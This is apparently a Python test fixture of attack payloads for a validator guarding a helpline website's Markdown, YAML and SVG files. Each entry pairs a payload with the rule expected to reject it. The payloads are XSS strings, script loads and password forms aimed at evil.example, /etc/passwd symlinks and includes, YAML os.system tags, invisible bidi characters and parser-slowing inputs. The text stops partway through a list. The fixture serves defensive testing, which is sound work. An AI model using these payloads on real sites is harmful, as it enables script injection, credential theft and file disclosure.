"""Attacks by kind, each with the rule that rejects it and the line it is reported on.

The kinds come from public lists: the OWASP cheat sheets on cross-site scripting, filter evasion and unvalidated
redirects, the security notes of Python-Markdown and SVG, Unicode's reports 36 and 39, the "Trojan Source" paper,
YAML and XML bombs, and vulnerabilities of site generators. The payloads are our own.
"""

from __future__ import annotations

from dataclasses import dataclass

PAGE, GUIDE, RECORD = "support/index.md", "guides/fighting/speak-first.md", "sources/paper.md"
LINES, DRAWING = "support/helplines.yml", "assets/pictures/walk.svg"

ANCHORS = {
    PAGE: "You are not alone.",
    GUIDE: "Hear the answer. [@paper:slowly]",
    RECORD: "- Go for a walk. { #walk }",
    LINES: "  reach: text HI to 111",
    DRAWING: '<circle cx="280" cy="80" r="20"/>',
}
"""The text of each valid file that a payload replaces, unless the attack names another."""

FIRST_LINES = {PAGE: 9, GUIDE: 40, RECORD: 24, LINES: 13, DRAWING: 2}


@dataclass(frozen=True)
class Attack:
    """A payload, where it is injected, and the problem that must be reported."""

    kind: str
    path: str
    payload: str
    code: str
    line: int = 0
    """Expected line; 0 for that of the replaced text, or line 1 of a whole file."""
    replaces: str = ""
    """The text it replaces; empty for that in ANCHORS, or for a whole file."""
    link: bool = False
    """True for a symbolic link to the payload."""

    @property
    def is_whole_file(self) -> bool:
        return not self.replaces and self.path not in ANCHORS

    @property
    def expected(self) -> tuple[str, int, str]:
        line = self.line or (1 if self.is_whole_file else FIRST_LINES[self.path])
        return self.path, line, self.code


def _on(path: str, kind: str, code: str, *words: str) -> list[Attack]:
    return [Attack(kind, path, each, code) for each in words]


MARKUP = [
    *_on(
        PAGE,
        "markup",
        "raw-html",
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x></sCrIpT>",
        "<scr<script>ipt>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        '<iframe src="https://evil.example/"></iframe>',
        "<object data=evil.swf></object>",
        "<embed src=evil.swf>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<form action="https://evil.example/"><input name="password"></form>',
        '<button formaction="javascript:alert(1)">Leave this page</button>',
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>calm</marquee>",
        '<div style="position:fixed;inset:0;background:url(https://evil.example/)">calm</div>',
        '<a href="https://evil.example/" class="leave">Leave this page</a>',
        "<template><script>alert(1)</script></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<textarea></textarea><script>alert(1)</script>",
        "<title></title><script>alert(1)</script>",
        "<!-- hidden words -->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo shell_exec('id'); ?>",
        "<!DOCTYPE html [<!ENTITY x 'y'>]>",
        "- <img src=x onerror=alert(1)>",
        "> <img src=x onerror=alert(1)>",
        "## A heading <img src=x onerror=alert(1)>",
        "[<img src=x onerror=alert(1)>](index.md)",
        "**<b onclick=alert(1)>calm</b>**",
        "A calm word <b onmouseover=alert(1)>here</b>.",
        "<xss onpointerenter=alert(1)>calm</xss>",
        "<p is=x-evil>calm</p>",
    ),
    Attack("markup", PAGE, "A word.\n\nAnother\nword <u onclick=alert(1)>here</u>.", "raw-html", line=12),
    Attack("markup", PAGE, "<svg/onload=alert(1)>", "unsafe-page"),
    *_on(
        PAGE,
        "markup",
        "unsafe-page",
        # the two parsers disagree on where the fence ends
        '~~~\n<div class="leaving"><a href="https://evil.example/" class="leave">Leave this page</a></div>\n~~~~',
        '~~~\n<label>Sign in to keep your ticks</label><input type="password">\n~~~~',
        '~~~\n<img src="https://evil.example/x.gif">\n~~~~',
        '~~~\n<input type="checkbox" data-tick="speak-first/both-spoke">\n~~~~',
        '- XX\n\n    ~~~\n    <a class="leave" href="https://evil.example/">calm</a>\n    ~~~',
        '!!! leaving "Leave this page"\n\n    [Leave this page](https://evil.example/)',
        '!!! leave-status "Calm"\n\n    Words that only some can hear.',
        "Calm words.\n{ .leaving .{ #ok }",
        "[calm](https://thehotline.org @evil.example/)",
        "[calm](//evil.example/ x)",
        "<https://thehotline.org @evil.example/>",
        "![a](https://evil.example/seen.gif x)",
    ),
    Attack("markup", PAGE, "[calm][q] words.\n[q]: https://a@evil.example/", "unsafe-page"),
    Attack("markup", PAGE, "[Leave](https://evil.example/){ .leave .{ #ok }", "unsafe-page"),
    *(
        Attack("markup", PAGE, words, "inline-insertion", line)
        for words, line in (
            ("~~~~\n[[rules]]\n~~~~\n\nwords\n\n~~~~\n<script>alert(2)</script>\n~~~~", 10),
            ("Calm words.\n[[helplines]]", 10),
            ("- [[helplines]]\n[[helplines]]", 10),
            ("insertion0\n\n```\n[[helplines]]\n```", 12),
        )
    ),
    Attack("address", RECORD, "address: https://paper.example/tips>{onclick=alert(1)}", "invalid-value", 7,
           "address: https://paper.example/tips"),
    Attack("address", RECORD, "address: https://thehotline.org/>{href=//evil.example}", "invalid-value", 7,
           "address: https://paper.example/tips"),
    Attack("address", PAGE, "Words first.\n[x]: https://elsewhere.example/\n\nSee [thehotline.org][x].",
           "misleading-link", 12),
    Attack("address", PAGE, "- one\n\n      [thehotline.org](https://elsewhere.example/)", "misleading-link", 11),
    Attack("markup", PAGE, "Words first.\n[You must not go home]: danger.", "unused-link-definition", 10),
    Attack("markup", PAGE, "Look at `[You]`.\n\n[You]: danger", "unused-link-definition", 11),
    Attack("markup", PAGE, '!!! note "<img src=x onerror=alert(1)>"\n\n    Calm.', "raw-html"),
    Attack("markup", PAGE, "| <img src=x onerror=alert(1)> | two |\n| --- | --- |\n| one | two |", "raw-html"),
    *_on(
        GUIDE,
        "markup",
        "unsupported-markup",
        "<script>alert(1)</script>",
        "Hear <img src=x onerror=alert(1)> the answer. [@paper:slowly]",
        "<!-- hidden words -->",
        "`<script>alert(1)</script>` [@paper:slowly]",
        "![Calm](../../assets/pictures/walk.svg) beside words. [@paper:slowly]",
    ),
    Attack("markup", GUIDE, "- [ ] <b onclick=alert(1)>Said.</b> { #both-spoke }", "unsupported-markup", 48,
           "- [ ] We have both spoken. { #both-spoke }"),
    Attack("markup", RECORD, "- <script>alert(1)</script> { #walk }", "unsupported-markup"),
]  # fmt: skip

ADDRESSES = [
    *_on(
        PAGE,
        "address",
        "invalid-url",
        "[calm](javascript:alert(1))",
        "[calm](JaVaScRiPt:alert(1))",
        "[calm](&#106;avascript:alert(1))",
        "[calm](&#x6A;&#x61;vascript:alert(1))",
        "[calm](&#0000106avascript:alert(1))",
        "[calm](javascript&colon;alert(1))",
        "[calm](java&Tab;script:alert(1))",
        "[calm](java&NewLine;script:alert(1))",
        "[calm](&#1;javascript:alert(1))",
        "[calm](%6Aavascript:alert(1))",
        "[calm](%256Aavascript%253Aalert(1))",
        "[calm](javascript%3Aalert(1))",
        "[calm](<java script:alert(1)>)",
        "[calm](javascript:%0Aalert(1))",
        "[calm](vbscript:msgbox(1))",
        "[calm](data:text/html,<script>alert(1)</script>)",
        "[calm](data:text/html;base64,PHNjcmlwdD4=)",
        "[calm](data:image/svg+xml;base64,PHN2Zz4=)",
        "[calm](file:///etc/passwd)",
        "[calm](blob:https://evil.example/1)",
        "[calm](view-source:https://evil.example/)",
        "[calm](intent://evil.example/#Intent;scheme=https;end)",
        "[calm](ftp://evil.example/x)",
        "[calm](http://evil.example/)",
        "[calm](//evil.example/)",
        "[calm](/\\evil.example/)",
        "[calm](\\\\\\\\evil.example/)",
        "[calm](https:evil.example)",
        "[calm](https:/evil.example)",
        "[calm](https:///evil.example)",
        "[calm](https://thehotline.org@evil.example/)",
        "[calm](https://thehotline.org%2F@evil.example/)",
        "[calm](https://evil.example:8443/)",
        "[calm](https://xn--thhotline-d1a.org/)",
        "[calm](https://2130706433/)",
        "[calm](/guides/fighting/)",
        "[calm](../../../../etc/passwd)",
        "[calm](..%2f..%2f..%2fetc/passwd)",
        "[calm](%2e%2e/%2e%2e/%2e%2e/secret.md)",
        "[calm](mailto:help@evil.example?bcc=a@evil.example&body=x)",
        "[calm](tel:javascript:alert(1))",
        "[calm](tel:*21*5551234#)",
        "[calm](sms:5551234?body=x)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[calm][1]\n\n[1]: javascript:alert(1)",
        '[calm][1]\n\n[1]: <vbscript:msgbox(1)> "calm"',
        "[![calm](../assets/pictures/walk.svg)](javascript:alert(1))",
        "- [calm](javascript:alert(1))",
        "> [calm](javascript:alert(1))",
    ),
    *_on(
        PAGE,
        "address",
        "external-picture",
        "![calm](https://evil.example/seen.gif)",
        "![calm](//evil.example/seen.gif)",
        "![calm](data:image/svg+xml,x)",
        "![calm](javascript:alert(1))",
        "![calm](../assets/pictures/../../../x.svg)",
        "![calm](../assets/pictures/walk.svg?x=https://evil.example)",
        "![calm](../assets/workbook.js)",
    ),
    *_on(
        GUIDE,
        "address",
        "external-link",
        "[calm](javascript:alert(1).md) [@paper:slowly]",
        "[calm](&#106;avascript:x.md) [@paper:slowly]",
        "[calm](https://evil.example/x.md) [@paper:slowly]",
        "[calm](//evil.example/x.md) [@paper:slowly]",
        "[calm](../../../x.md) [@paper:slowly]",
        "[calm](go-for-a-walk.md#x)[y](javascript:alert) [@paper:slowly]",
        "<https://evil.example/x.md> [@paper:slowly]",
    ),
    Attack("address", GUIDE, "[calm](go-for-a-walk.md#--><script>) [@paper:slowly]", "external-link"),
    Attack("address", GUIDE, "[calm](//[evil.md) [@paper:slowly]", "external-link"),
    Attack("address", RECORD, "address: javascript:alert(1)", "invalid-value", 7, "address: https://paper.example/tips"),
    Attack("address", RECORD, "address: 'https://a.example/>\"<script>'", "front-matter-markup", 7,
           "address: https://paper.example/tips"),
    Attack("address", "sources/study-2001.md", "doi: 10.1000/x](javascript:alert(1))", "invalid-value", 6,
           "doi: 10.1000/example"),
]  # fmt: skip

NUMBERS = [
    *(
        Attack("number", path, f"{words}{end}", "unknown-phone-number")
        for path, end in ((PAGE, ""), (GUIDE, " [@paper:slowly]"))
        for words in (
            "Call 0900 123 456 to be heard.",
            "Call (0900) 123-456.",
            "Call 0900.123.456 or 0900/123456.",
            "Call +1 900 555 0199.",
            "Call 0900 **123** 456.",
            "Call 0900\\-123\\-456.",
            "Call &#48;900&nbsp;123 456.",
            "Call \u0660\u0669\u0660\u0660 \u0661\u0662\u0663.",
            "Call 0900\n123 456.",
            "Call us on 2014-2019.",
            "Call 0900:123:456 or 0900,123,456.",
            "Call 0900 [123](../index.md) 456.",
            "Send money to 19005550199",
            "Please text HELP to 90999.",
        )
    ),
    *_on(
        PAGE,
        "number",
        "unknown-phone-number",
        "[call the hotline](tel:+19005551234)",
        "[call the hotline](&#116;el:900-555)",
        "[text the hotline](sms:90999)",
        "[text the hotline](SMS:90999)",
        "<tel:0900123456>",
        "`0900 123 456`",
        "| Call | 0900 123 456 |\n| --- | --- |\n| one | two |",
    ),
    Attack("number", PAGE, "[call][1]\n\n[1]: tel:0900-1", "unknown-phone-number", 11),
    *_on(
        PAGE,
        "number",
        "unknown-phone-number",
        "Call 1-800-HURTING now.",
        "Text HELP to 88222.",
        "Text “HELP” to 88222.",
        "Send HELP to 88222.",
        "Call 09011.",
        "Call 09 *12*{ #a }34 *56*{ #b }78.",
    ),
    Attack(
        "number",
        GUIDE,
        'summary: "Call \\x30\\x39\\x30\\x30 \\x31\\x32\\x33 456."',
        "unknown-phone-number",
        3,
        "summary: Say what you feel.",
    ),
    Attack(
        "number",
        RECORD,
        "note: Call 0900 123 456 for help.",
        "unknown-phone-number",
        8,
        "note: The copy has lost a heading.",
    ),
    Attack("number", GUIDE, "title: Call 0900 123 456", "unknown-phone-number", 2, "title: Speak first"),
    Attack("number", RECORD, "- Call 0900 123 456. { #walk }", "unknown-phone-number"),
    Attack("number", DRAWING, "<text>0900<tspan>123</tspan>456</text>", "unknown-phone-number"),
    Attack(
        "number",
        "paths/tonight.md",
        "summary: Call 0900 123 456",
        "unknown-phone-number",
        3,
        "summary: For one bad evening.",
    ),
]

LINK_DEFINITIONS = [
    Attack("vanishing words", GUIDE, words, "link-definition", line)
    for words, line in (
        ("[You]: Sorry.", 0),
        ('Calm. [@paper:slowly]\n\n!!! say "A"\n\n    [You]: Sorry.\n\n    Words.', 44),
        ("Calm. [@paper:slowly]\n\n- [ ] Words. { #words }\n\n[Never]: leave-alone", 44),
        ("Calm. [@paper:slowly]\n\n- [Never]: leave-alone\n- words", 42),
        ("[a]: b.md\n[A]: c.md\n\nCalm. [@paper:slowly]", 41),
        ("[calm][1]. [@paper:slowly]\n\n[1]: go-for-a-walk.md", 42),
    )
] + [
    Attack(
        "vanishing words",
        "guides/fighting/index.md",
        "[You]: Sorry.\n\nWords.",
        "link-definition",
        10,
        "You're tired of it.",
    ),
    Attack("vanishing words", RECORD, "- Go. { #walk }\n\n[You]: Sorry.", "link-definition", 26),
    Attack("vanishing words", PAGE, "[You]: Sorry.", "unused-link-definition"),
    Attack("vanishing words", PAGE, "Calm.\n\n[I am\nhere]: x\n", "unused-link-definition", 11),
]

MISLEADING_LINKS = _on(
    PAGE,
    "link's words",
    "misleading-link",
    "[www.thehotline.org](https://evil.example/)",
    "[the hotline, thehotline.org](https://evil.example/thehotline.org)",
    "[**the**hotline.org](https://thehotline.org.evil.example/)",
    "[https://www.thehotline.org/plan/](https://evil-thehotline.org/plan/)",
    "[(TheHotline.ORG)](https://evil.example/)",
    "[www&#46;thehotline.org](https://evil.example/)",
    "[www.thehotline.org][1]\n\n[1]: https://evil.example/",
    "- one\n- [`thehotline.org`](https://evil.example/)".replace("- one\n", ""),
    "[help@thehotline.org](mailto:help@evil.example)",
    "[www.thehotline.org](tel:000)",
)

ATTRIBUTES = [
    *_on(
        PAGE,
        "attributes",
        "invalid-attributes",
        "Calm words. { onclick=alert(1) }",
        "## Calm { onclick=alert(1) }",
        "## Calm { #__search }",
        "## Calm { #__drawer }",
        "## Calm { .md-overlay }",
        "## Calm { .leave }",
        "[calm](index.md){ href=javascript:alert(1) }",
        "[calm](index.md){ target=_blank }",
        "![calm](../assets/pictures/walk.svg){ onload=alert(1) }",
        "**calm**{ onclick=alert(1) }",
        "``` { .python onclick=alert(1) }\ncalm\n```",
        "``` { #__search }\ncalm\n```",
    ),
    *(
        Attack("attributes", PAGE, f"Calm words.\n{words}", "invalid-attributes", 10)
        for words in (
            "{ onclick=alert(1) }",
            "{: onmouseover=alert(1) }",
            '{ #calm onclick="alert(1)" }',
            "{ style=position:fixed }",
        )
    ),
    Attack("attributes", PAGE, "## \\_\\_search", "reserved-id"),
    Attack("attributes", PAGE, "## \\_\\_drawer", "reserved-id"),
    Attack("attributes", GUIDE, "{ #both-spoke onclick=alert(1) }", "invalid-attributes", 48, "{ #both-spoke }"),
    Attack("attributes", GUIDE, "{ #both-spoke .leave }", "invalid-attributes", 48, "{ #both-spoke }"),
    Attack("attributes", GUIDE, "{ #__drawer }", "invalid-attributes", 38, "{ #listen }"),
    Attack("attributes", PAGE, "## Content", "reserved-id"),
    Attack("attributes", PAGE, "## Print panel", "reserved-id"),
    Attack("attributes", GUIDE, "{ #what-next }", "reserved-id", 38, "{ #listen }"),
    Attack("attributes", GUIDE, "{ #content }", "reserved-id", 38, "{ #listen }"),
    Attack("attributes", GUIDE, "{ #leave-keys }", "reserved-id", 48, "{ #both-spoke }"),
    Attack("attributes", RECORD, "{ #search-form }", "reserved-id", 17, "{ #slowly }"),
]

FRONT_MATTER = [
    Attack("front matter", path, f"title: {words}", code, 2, title)
    for path, title in ((PAGE, "title: Support"), (GUIDE, "title: Speak first"))
    for words, code in (
        ('"</title><script>alert(1)</script>"', "front-matter-markup"),
        ('"&lt;/title&gt;&lt;script&gt;"', "front-matter-markup"),
        ('"&#60;script>"', "front-matter-markup"),
        ('"\\x3Cscript>"', "front-matter-markup"),
        ('"calm\\u202Emlac"', "invisible-character"),
        ('"calm\\0"', "invisible-character"),
        ('"\\uD800"', "invalid-front-matter"),
        ('"\\U7FFFFFFF"', "invalid-front-matter"),
        ("!!python/object/apply:os.system [id]", "front-matter-reference"),
        ("&a [*a, *a]", "front-matter-reference"),
        ("[calm, calmer]", "invalid-value"),
        ("calm: words", "invalid-front-matter"),
        ("calm\ntitle: calmer", "duplicate-key"),
    )
]
FRONT_MATTER = [
    Attack(each.kind, each.path, each.payload, each.code, 3, each.replaces) if each.code == "duplicate-key" else each
    for each in FRONT_MATTER
] + [
    Attack("front matter", PAGE, "title: Support\ntemplate: ../../evil.html", "unknown-key", 3, "title: Support"),
    Attack("front matter", PAGE, "title: Support\nhide: [navigation]", "unknown-key", 3, "title: Support"),
    Attack("front matter", PAGE, "title: Support\nsearch: {exclude: true}", "unknown-key", 3, "title: Support"),
    Attack("front matter", GUIDE, "title: Speak first\ndiscreet: false", "unknown-key", 3, "title: Speak first"),
    Attack("front matter", GUIDE, "title: Speak first\n" + "".join(f"x{n}: &x{n} [*x{n - 1}]\n" for n in range(1, 99)),
           "front-matter-too-long", 2, "title: Speak first"),
    Attack("front matter", GUIDE, "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]",
           "front-matter-reference", 2, "title: Speak first"),
    Attack("front matter", GUIDE, f"title: {'[' * 3500}", "invalid-front-matter", 2, "title: Speak first"),
    Attack("front matter", GUIDE, f"title: {'x' * 5000}", "front-matter-too-long", 2, "title: Speak first"),
    Attack("front matter", "about/index.md", "title: Calm\nauthor: evil\n\nCalm words.", "missing-front-matter"),
    Attack("front matter", "about/index.md", "---\ntitle: Calm\n\nNo end.", "missing-front-matter", 3),
]  # fmt: skip

_FRONT_MATTER = "---\ntitle: Calm\n---\n"

FILES = [
    Attack("file", "guides/fighting/secret.md", "/etc/passwd", "symbolic-link", link=True),
    Attack("file", ".hidden", "/etc", "symbolic-link", link=True),
    Attack("file", "guides/.hidden.md", "/etc/passwd", "symbolic-link", link=True),
    Attack("file", "guides/elsewhere", "/etc", "symbolic-link", link=True),
    Attack("file", "assets/pictures/secret.svg", "../../../../secret", "symbolic-link", link=True),
    Attack("file", "sources/other.fingerprint", "/etc/passwd", "symbolic-link", link=True),
    *(
        Attack("file", path, words, "unexpected-file")
        for path, words in (
            ("index.html", "<script>alert(1)</script>"),
            ("support/evil.htm", "<script>alert(1)</script>"),
            ("support/evil.xhtml", "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
            ("support/evil.php", "<?php system('id');"),
            ("support/evil.py", "import os"),
            ("support/evil.wasm", "\0asm"),
            ("support/evil.svgz", "\x1f\x8b"),
            ("support/evil.xml", "<x/>"),
            ("support/evil.json", "{}"),
            ("support/evil.pdf", "%PDF-1.7"),
            ("support/evil.txt", "calm"),
            ("support/evil.md.html", "calm"),
            ("assets/pictures/photo.png", "<html><script>alert(1)</script></html>"),
            ("assets/pictures/photo.jpg", "GIF89a/*<script>*/"),
            ("assets/banner.gif", "GIF89a=1;alert(1)"),
            ("robots.txt", "User-agent: *"),
            ("redirects", "/* https://evil.example/ 301"),
            ("search/search_index.json", "{}"),
            ("helplines.yml", "- country: Evil"),
            ("support/evil.js", "alert(1)"),
            ("evil.css", "@import url(//evil.example)"),
            ("assets/javascripts/bundle.js", "alert(1)"),
            ("assets/stylesheets/main.css", "body { display: none }"),
            ("assets/pictures/evil.js", "alert(1)"),
            ("assets/leave.js", "'use strict';"),
            ("assets/style.css", ".leave { display: none }"),
            ("assets/search-words.js", "const calm = '\u202e'; // \u2066"),
            ("assets/vendor/minisearch.js", "alert(1)"),
        )
    ),
    *(
        Attack("file", path, words, "misplaced-file")
        for path, words in (
            ("support/evil.svg", "<svg/>"),
            ("guides/calm.md", _FRONT_MATTER),
            ("guides/fighting/deeper/calm.md", _FRONT_MATTER),
            ("sources/index.md", _FRONT_MATTER),
            ("sources/by-guide.md", _FRONT_MATTER),
            ("checklists/index.md", _FRONT_MATTER),
            ("workbook/index.md", _FRONT_MATTER),
            ("workbook/pdf/calm.md", _FRONT_MATTER),
            ("worksheets/deeper/calm.md", _FRONT_MATTER),
            ("assets/calm.md", _FRONT_MATTER),
        )
    ),
    *(
        Attack("file name", path, _FRONT_MATTER, "invalid-file-name")
        for path in (
            "support/Calm.md",
            "support/calm words.md",
            "support/calm\nwords.md",
            "support/calm\u202edm.exe.md",
            "support/c\u0430lm.md",
            "support/calm\udcff.md",
            "support/-calm.md",
            "support/calm--words.md",
            "support/calm%2e%2e.md",
            "support/calm?.md",
            "support/<b>.md",
            "support/con.md",
            "support/nul.md",
            "support/com1.md",
            "support/" + "x" * 90 + ".md",
        )
    ),
    Attack("file name", "support.md", _FRONT_MATTER, "duplicate-file-name"),
    Attack("file name", "paths/index.md", "---\ntitle: Paths\n---\n\nCalm.\n", "misplaced-file"),
    Attack("file name", "assets/vendor/x.svg", "<svg><script>alert(1)</script></svg>", "misplaced-file"),
    Attack("encoding", "about/index.md", "---\ntitle: M\udcfcde\n---\n", "not-utf-8", 2),
    Attack("encoding", "about/index.md", "\udcff\udcfeC\0a\0", "not-utf-8", 1),
    Attack("encoding", "about/index.md", "\udcc0\udcbcscript>", "not-utf-8", 1),
    Attack("encoding", "about/index.md", "\udced\udca0\udc80", "not-utf-8", 1),
    Attack("size", "about/index.md", _FRONT_MATTER + "Calm words.\n\n" * 10_000, "file-too-large", 1),
    Attack("size", "sources/paper.fingerprint", "0123456789ab\n" * 10_000, "file-too-large", 1),
    Attack("fingerprint", "sources/paper.fingerprint", "0123456789ab\nThe article.", "invalid-fingerprint", 2),
    Attack("fingerprint", "sources/paper.fingerprint", "<script>alert(1)</script>", "invalid-fingerprint", 1),
]  # fmt: skip

CHARACTERS = [
    Attack("characters", path, words, code)
    for path, before, after in (
        (PAGE, "Calm", "words."),
        (GUIDE, "Calm", "words. [@paper:slowly]"),
    )
    for words, code in (
        (f"{before} \u202esdrow\u202c {after}", "invisible-character"),
        (f"{before} \u2067sdrow\u2069 {after}", "invisible-character"),
        (f"{before}\u200e {after}", "invisible-character"),
        (f"{before}\u200b {after}", "invisible-character"),
        (f"{before}\u200c{after}", "invisible-character"),
        (f"{before}\u200d{after}", "invisible-character"),
        (f"{before}\u00ad{after}", "invisible-character"),
        (f"{before}\ufeff {after}", "invisible-character"),
        (f"{before}\u2060 {after}", "invisible-character"),
        (f"{before}\U000e0068\U000e0069 {after}", "invisible-character"),
        (f"{before}\ufe01 {after}", "invisible-character"),
        (f"{before}\U000e0101 {after}", "invisible-character"),
        (f"{before}\u3164 {after}", "invisible-character"),
        (f"{before}\u2028{after}", "invisible-character"),
        (f"{before}\x00 {after}", "invisible-character"),
        (f"{before}\x1b[2J {after}", "invisible-character"),
        (f"{before}\x08\x08 {after}", "invisible-character"),
        (f"{before}\r{after}", "invisible-character"),
        (f"{before}\ue000 {after}", "invisible-character"),
        (f"{before} \U0001f468\u200dman {after}", "invisible-character"),
        (f"C\u0430lm {after}", "mixed-scripts"),
        (f"Calm\u03bf {after}", "mixed-scripts"),
        (f"\U0001d402\U0001d41a\U0001d425\U0001d426 {after}", "mixed-scripts"),
        (f"\uff23\uff41\uff4c\uff4d {after}", "mixed-scripts"),
        (f"Ca{chr(0x301) * 9}lm {after}", "stacked-marks"),
    )
] + [
    Attack("characters", DRAWING, "<text>\u202emlac</text>", "invisible-character"),
    Attack("characters", LINES, "  reach: call \u202e000", "invisible-character"),
    Attack("characters", LINES, '  reach: "call \\u202e000"', "invisible-character"),
]

SVG_START = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 200">'
DRAWINGS = [
    *_on(
        DRAWING,
        "drawing",
        "unsafe-drawing",
        "<script>alert(1)</script>",
        '<script href="https://evil.example/x.js"/>',
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
        '<circle r="1" onload="alert(1)"/>',
        '<circle r="1" ONCLICK="alert(1)"/>',
        '<use href="https://evil.example/x.svg#x"/>',
        '<use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="data:image/svg+xml,x#x"/>',
        '<image href="https://evil.example/seen.gif"/>',
        '<a href="javascript:alert(1)"><circle r="9"/></a>',
        "<style>@import url(https://evil.example/x.css)</style>",
        '<circle style="background: url(https://evil.example/)" r="1"/>',
        '<circle fill="url(https://evil.example/#x)" r="1"/>',
        '<circle fill="\\75 rl(https://evil.example/#x)" r="1"/>',
        '<circle fill="u&#114;l(#x)" r="1"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<animate attributeName="x" from="1" to="2"/>',
        '<filter><feImage href="https://evil.example/"/></filter>',
        '<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
        '<g xml:base="https://evil.example/"/>',
        "<![CDATA[<script>alert(1)</script>]]>",
        '<?xml-stylesheet href="https://evil.example/x.css"?>',
        "<metadata>calm</metadata>",
        '<circle id="__search" r="1"/>',
        '<circle class="leave" r="1"/>',
    ),
    Attack("drawing", DRAWING, "<g>" * 40 + "</g>" * 40, "unsafe-drawing"),
    *(
        Attack("drawing", "assets/pictures/evil.svg", words, "unsafe-drawing", 1)
        for words in (
            f'<!DOCTYPE svg [<!ENTITY a "b">]>{SVG_START}</svg>',
            f'<!DOCTYPE svg SYSTEM "file:///etc/passwd">{SVG_START}</svg>',
            f'<?xml version="1.0" encoding="UTF-7"?>{SVG_START}</svg>',
            "<html><script>alert(1)</script></html>",
            "GIF89a",
            SVG_START,
            f"{SVG_START.replace('640 200', '999999 999999')}</svg>",
        )
    ),
    Attack("drawing", "assets/evil.svg", f"{SVG_START}<script>alert(1)</script></svg>", "misplaced-file"),
]

COMPLEX = [
    *_on(
        PAGE,
        "slow",
        "too-complex",
        "[" * 5_000,
        "![" * 3_000,
        "[a](" * 2_000,
        "[a](<" * 2_000,
        "*a " * 3_000,
        "**a *b " * 1_500,
        "_a" * 3_000,
        "`" * 3_999,
        "` `` ``` " * 900,
        "<a " * 3_000,
        "&" * 3_999,
        "&#" * 2_500,
        "\\" * 3_999,
        ">" * 3_000,
        "> " * 2_000 + "calm",
        "- " * 2_000 + "calm",
        "1. " * 1_000 + "calm",
        "    " * 900 + "calm",
        "|" * 3_000 + "\n" + "|-" * 1_500,
        "x" * 20_000,
        "calm words\n" * 4_000,
        "[1]: calm\n" * 2_000,
        "{" * 3_000,
        '"' * 3_000,
        "(" * 3_000,
        "~" * 3_000,
        "!" * 3_000,
    ),
    Attack("slow", PAGE, "## Calm\n\n" * 600, "too-complex", 1007),
    Attack("slow", GUIDE, '!!! write two tall "What?"\n\n' * 2_000 + "Calm. [@paper:slowly]", "too-complex", 1012),
    *_on(GUIDE, "slow", "too-complex", "[" * 5_000, "**a *b " * 1_500, "> " * 2_000 + "calm", "[@" * 3_000),
]

INCLUDES = [
    *_on(
        PAGE,
        "include",
        "snippet-include",
        '--8<-- "../mkdocs.yml"',
        "--8<--\n../mkdocs.yml\n--8<--",
        '```\n--8<-- "/etc/passwd"\n```',
        '    --8<-- "/etc/passwd"',
        '-8<- "https://evil.example/x.md"',
    ),
    Attack("include", GUIDE, '--8<-- "../mkdocs.yml" [@paper:slowly]', "snippet-include"),
]
INCLUDES = [
    Attack(each.kind, each.path, each.payload, each.code, 10) if each.payload.startswith("```") else each
    for each in INCLUDES
]

HELPLINES = [
    Attack("helplines", LINES, words, code, line, instead)
    for words, code, line, instead in (
        ("  reach: text <script>alert(1)</script>", "helpline-value", 13, "  reach: text HI to 111"),
        ("  reach: '[call](javascript:alert(1))'", "helpline-value", 13, "  reach: text HI to 111"),
        ("  reach: ''", "helpline-value", 13, "  reach: text HI to 111"),
        ("  reach: |\n    one\n    two", "helpline-value", 13, "  reach: text HI to 111"),
        ("  address: https://evil.example", "helpline-value", 15, "  address: other.example"),
        ("  address: evil.example)[x](javascript:alert(1)", "helpline-value", 15, "  address: other.example"),
        ("  address: 'evil.example\"onclick=alert(1)'", "helpline-value", 15, "  address: other.example"),
        ("  address: thehotline.org@evil.example", "helpline-value", 15, "  address: other.example"),
        ("  address: localhost", "helpline-value", 15, "  address: other.example"),
        ("  reach: call 1\n  reach: call 2", "helpline-keys", 10, "  reach: text HI to 111"),
        ("  reach: [1, 2]", "helpline-keys", 10, "  reach: text HI to 111"),
        ("  ? [a]\n  : b", "helpline-keys", 10, "  reach: text HI to 111"),
        ("  extra: 1\n  reach: call 1", "helpline-keys", 10, "  reach: text HI to 111"),
        ("  reach: &a call", "invalid-helplines", 13, "  reach: text HI to 111"),
        ("  reach: !!python/name:os.system", "invalid-helplines", 13, "  reach: text HI to 111"),
        ("  reach: " + "[" * 5_000, "invalid-helplines", 1, "  reach: text HI to 111"),
        ("  reach: call us on 111", "helpline-value", 13, "  reach: text HI to 111"),
        ("  for: '[men](javascript:alert(1))'", "helpline-value", 12, "  for: men"),
        ("  doors: crisis, <b>", "helpline-choice", 16, "  doors: crisis"),
        ("  doors: crisis, crisis", "helpline-choice", 16, "  doors: crisis"),
        ("  doors: ''", "helpline-choice", 16, "  doors: crisis"),
        ("  compared: nobody", "helpline-choice", 18, "  compared: other"),
        ("  silent: <script>alert(1)</script>", "helpline-value", 21, "  silent: press 5 when you are asked"),
